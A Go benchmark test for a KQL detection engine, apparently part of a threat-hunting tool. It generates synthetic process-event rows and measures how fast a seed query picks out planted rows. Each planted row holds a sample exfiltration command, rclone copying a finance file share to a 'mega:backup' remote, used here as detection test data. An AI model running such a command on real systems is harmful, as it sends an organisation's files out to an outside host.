package kql_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"offhunt/detect/data"
	"offhunt/detect/kql"
	"offhunt/internal/shared"
)

// benchRows builds an in-memory DeviceProcessEvents table shaped like the
// shared generator's rows: one rclone copy per 1000 rows.
func benchRows(n int) *data.Table {
	cols := []data.Column{
		{Name: "TimeGenerated", Type: data.DateTime},
		{Name: "FileName", Type: data.String},
		{Name: "ProcessCommandLine", Type: data.String},
		{Name: "DeviceName", Type: data.String},
	}
	benign := []string{
		`svchost.exe -k netsvcs -p -s Schedule`,
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\scripts\inventory.ps1"`,
		`cmd.exe /c "copy /y C:\temp\a.txt D:\backup\a.txt"`,
		`robocopy.exe "\\fs01\share" "D:\mirror" /MIR /R:1 /W:1`,
		`"chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,i,5678 /prefetch:1`,
	}
	base := data.TimeToTicks(mustTime("2025-09-01T00:00:00Z"))
	t := &data.Table{Name: "DeviceProcessEvents", Columns: cols}
	for i := 0; i < n; i++ {
		file, cmd := "cmd.exe", benign[i%len(benign)]
		if i%1000 == 500 {
			file, cmd = "rclone.exe", `rclone.exe copy "\\fs01\finance" mega:backup -q --ignore-existing --auto-confirm --transfers 12`
		}
		t.Rows = append(t.Rows, data.Row{
			data.NewDateTime(base + int64(i)*data.TicksPerSecond),
			data.NewString(file), data.NewString(cmd), data.NewString(fmt.Sprintf("ws-%04d", i%500)),
		})
	}
	return t
}

// BenchmarkSeedFilter measures the engine alone (no reading) on the seed
// query over rows held in memory: the filter path must not allocate per
// row, so allocs/op stays flat as the table grows.
func BenchmarkSeedFilter(b *testing.B) {
	query := shared.ReadSeed(b)
	for _, n := range []int{100_000, 1_000_000} {
		b.Run(fmt.Sprintf("rows=%d", n), func(b *testing.B) {
			t := benchRows(n)
			var bytes int64
			for _, r := range t.Rows {
				bytes += int64(len(r[1].S) + len(r[2].S) + len(r[3].S) + 28)
			}
			env := &kql.Env{Tables: []data.Source{data.TableSource{T: t}}, Now: data.TimeToTicks(mustTime("2025-10-01T00:00:00Z"))}
			prog, err := kql.Compile(query, env)
			if err != nil {
				b.Fatal(err)
			}
			b.SetBytes(bytes)
			b.ReportAllocs()
			for b.Loop() {
				res, err := prog.Run(context.Background())
				if err != nil {
					b.Fatal(err)
				}
				if got := len(res[0].Table.Rows); got != n/1000 {
					b.Fatalf("got %d rows, want %d", got, n/1000)
				}
			}
			b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
}

func mustTime(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}
